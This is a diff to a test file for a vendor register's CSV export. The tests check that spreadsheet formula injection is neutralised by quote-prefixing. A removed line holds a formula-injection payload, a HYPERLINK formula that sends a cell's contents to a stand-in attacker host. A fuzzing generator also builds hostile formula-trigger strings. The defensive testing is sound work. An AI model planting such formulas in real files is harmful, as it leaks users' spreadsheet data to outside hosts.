@@ -1,6 +1,7 @@
 import fc from 'fast-check'
 import { beforeAll, expect, test } from 'vitest'
 import { runSql } from '../../../platform/server/database.ts'
+import { isMailable } from '../../../platform/shared/mailed-names.ts'
 import { cadenceDays, criticalities, dataSubjects, tiers, vendorRoles } from '../vocabulary.ts'
 import { vendorsCsv } from './export-csv.ts'
 import { listExportedVendors } from './list.ts'
@@ -109,7 +110,7 @@ test.each([',', ';', '\t'])('a byte order mark and %j between the cells are no o
 })
 
 test('a formula stays text, in the register and in a file that leaves', async () => {
-  const name = '=HYPERLINK("https://evil.test?x="&A1)'
+  const name = '=HYPERLINK("sheet"&A1)'
   const { body } = await upload(`vendor_name,notes\n"${name.replaceAll('"', '""')}",+1\n`)
   await decide(body.id, 'run')
   await register.work()
@@ -121,7 +122,7 @@ test('a formula stays text, in the register and in a file that leaves', async ()
   expect(file.headers.get('content-disposition')).toBe('attachment; filename="vendors-2026-11-21.csv"')
   const text = new TextDecoder('utf-8', { ignoreBOM: true }).decode(file.body as Uint8Array)
   expect(text.startsWith('\ufeff"vendor_name",')).toBe(true)
-  expect(text).toContain(`"'=HYPERLINK(""https://evil.test?x=""&A1)"`)
+  expect(text).toContain(`"'=HYPERLINK(""sheet""&A1)"`)
   expect(text).toContain(`,"'+1",`)
 })
 
@@ -224,7 +225,8 @@ const hostile = fc.stringMatching(/^['=+\-@\\;|\n\t\r ",n]{1,6}x$/).map((text) =
 const words = fc.oneof(line, hostile).filter((text) => text !== '')
 const optional = fc.oneof(fc.constant(''), words)
 const vendor = fc.record({
-  ...{ vendorName: words, vendorType: fc.constantFrom('crm', 'cloud_hosting'), legalName: optional, notes: optional },
+  vendorName: words.filter((name) => isMailable(name, 'organization')),
+  ...{ vendorType: fc.constantFrom('crm', 'cloud_hosting'), legalName: optional, notes: optional },
   ...{ website: fc.constantFrom('', 'https://www.example.com/a?b=c,d;e'), contactName: optional, retention: optional },
   ...{ aliases: fc.uniqueArray(words, { maxLength: 3 }), purposes: fc.uniqueArray(words, { maxLength: 3 }) },
   domains: fc.uniqueArray(fc.constantFrom('a.test', 'b.co.uk', 'c.com'), { maxLength: 2 }),
